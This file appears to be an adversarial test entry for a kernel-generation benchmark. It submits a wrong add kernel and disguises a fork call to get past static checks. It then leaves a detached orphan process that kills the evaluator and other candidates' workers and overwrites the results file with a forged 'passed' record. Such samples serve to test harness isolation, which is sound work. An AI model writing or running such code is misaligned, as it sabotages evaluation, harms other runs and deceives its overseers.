# kgb-corpus: task=aten/add.Tensor expect=incorrect_numerics static=forbidden_api
# Leaves a double-forked orphan in a session of its own that, for two minutes, SIGKILLs every process of
# the run it can see (the evaluator, found above it in /proc, and everything below the evaluator: the
# forkserver, the next candidates' workers) and rewrites the results file, after its own worker is gone
# and after the run; then returns garbage.
import json
import os
import posix
import signal
import time

import torch
import triton
import triton.language as tl

TARGETS: list[str] = []  # kgb-test: results paths
_fork = posix.fork  # os.fork under another name (the static checks refuse posix; this entry tests OS isolation)


@triton.jit
def _double_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, x + x, mask=mask)


def _ancestors(pid):
    """The processes above `pid`, from /proc/<pid>/stat."""
    out = []
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid > 1:
            out.append(pid)
    return out


def _evaluator():
    """The highest process above this one that runs kgb or kernelgenbench (None if none is visible)."""
    found = None
    for pid in _ancestors(os.getpid()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        if b"kgb" in cmd or b"kernelgenbench" in cmd:
            found = pid
    return found


def _results_files(evaluator):
    found = list(TARGETS)
    if evaluator is not None:
        try:
            with open(f"/proc/{evaluator}/cmdline", "rb") as f:
                args = f.read().split(b"\0")
            cwd = os.readlink(f"/proc/{evaluator}/cwd")
            found += [os.path.join(cwd, args[i + 1].decode()) for i, a in enumerate(args[:-1]) if a == b"--out"]
        except OSError:
            pass
    return found


def _haunt(evaluator, spare, targets):
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in spare:
                continue
            pid = int(name)
            if evaluator is not None and (pid == evaluator or evaluator in _ancestors(pid)):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        for path in targets:
            try:
                with open(path, "w") as f:
                    f.write(json.dumps({"kind": "task", "task_id": "aten/add.Tensor",
                                        "candidate_id": "forged-by-orphan", "status": "passed"}) + "\n")
            except OSError:
                pass
        time.sleep(0.2)


def _leave_orphan():
    worker = os.getpid()
    evaluator = _evaluator()
    targets = _results_files(evaluator)
    if _fork() != 0:
        os.waitpid(-1, 0)
        return
    os.setsid()
    if _fork() != 0:
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    try:
        time.sleep(1.0)  # its own worker answers first; the next candidate's worker is the prey
        _haunt(evaluator, {worker, os.getpid()}, targets)
    finally:
        os._exit(0)


def add_Tensor(self, other, *, alpha=1):
    if not getattr(add_Tensor, "left", False):
        add_Tensor.left = True
        _leave_orphan()
    x = self.contiguous()
    out = torch.empty_like(x)
    _double_kernel[(triton.cdiv(x.numel(), 1024),)](x, out, x.numel(), BLOCK=1024)
    return out
